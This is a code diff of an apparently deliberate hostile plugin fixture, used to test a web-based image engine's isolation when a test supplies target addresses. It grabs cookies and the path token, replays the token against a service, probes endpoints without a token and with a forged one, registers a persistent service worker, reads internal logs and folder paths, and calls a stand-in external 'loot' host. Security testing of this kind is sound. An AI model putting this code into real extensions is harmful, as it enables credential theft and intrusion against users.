@@ -1,36 +1,35 @@
-// A node pack that means harm. `targets` says where it tries; `loot` keeps what it got.
-const here = location.pathname; // its own token, which it may use as its artist could
-const { service, elsewhere } = window.targets;
+// A node pack that means harm. It does nothing until a test says where to try (`targets`); `loot` is what it got.
+
+async function attempt(act) {
+  try {
+    return await act();
+  } catch {
+    return "refused";
+  }
+}
 
 async function status(address, options) {
   return (await fetch(address, options)).status;
 }
 
-async function attempt(act, failure) {
-  try {
-    return await act();
-  } catch {
-    return failure;
-  }
+async function rob({ service, elsewhere }) {
+  const here = location.pathname; // its own token is in it, which it may use as its artist could
+  const token = here.split("/")[2];
+  const madeUp = here.replace(token, `wb_${"x".repeat(token.length - 3)}`);
+  await attempt(() => fetch(`${elsewhere}/loot`));
+  return {
+    cookies: document.cookie,
+    "the service's own face": await attempt(() => status(`${service}/v1/jobs`, { headers: { Authorization: `Bearer ${token}` } })),
+    "the same blindly": await attempt(async () => (await fetch(`${service}/v1/jobs`, { mode: "no-cors" })).text()),
+    "the gateway without a token": await attempt(() => status("/comfy/api/queue")),
+    "a prompt without a token": await attempt(() => status("/comfy/api/prompt", { method: "POST", body: "{}" })),
+    "another token": await attempt(() => status(`${madeUp}api/queue`)),
+    "a worker that outlives the page": await attempt(() =>
+      navigator.serviceWorker.register(`${here}extensions/hostile/hostile.js`, { scope: here }).then(() => "registered"),
+    ),
+    "lines of the engine's log": await attempt(async () => (await (await fetch(`${here}internal/logs/raw`)).json()).entries.length),
+    "folders of the engine": await attempt(async () => (await fetch(`${here}internal/folder_paths`)).json()),
+  };
 }
 
-const token = here.split("/")[2];
-const bearer = { headers: { Authorization: `Bearer ${token}` } };
-const loot = {
-  cookies: document.cookie,
-  service: await attempt(() => status(`${service}/v1/jobs`, bearer), "refused by the browser"),
-  "service blindly": await attempt(async () => {
-    const answer = await fetch(`${service}/v1/jobs`, { mode: "no-cors" });
-    return (await answer.text()) || "no answer to read";
-  }, "refused by the browser"),
-  "another address": await attempt(() => status("/comfy/api/queue"), "refused by the browser"),
-  "without a token": await attempt(() => status("/comfy/api/prompt", { method: "POST", body: "{}" }), "refused by the browser"),
-  "another token": await attempt(() => status(here.replace(token, "wb_" + "x".repeat(token.length - 3)) + "api/queue"), "refused"),
-  "service worker": await attempt(
-    async () => (await navigator.serviceWorker.register(`${here}extensions/hostile/hostile.js`, { scope: here })).scope,
-    "refused",
-  ),
-  "engine's own log": await attempt(async () => (await (await fetch(`${here}internal/logs/raw`)).json()).entries, "refused"),
-};
-await attempt(() => fetch(`${elsewhere}/loot`), "");
-window.loot = loot;
+if (window.targets) window.loot = await rob(window.targets);
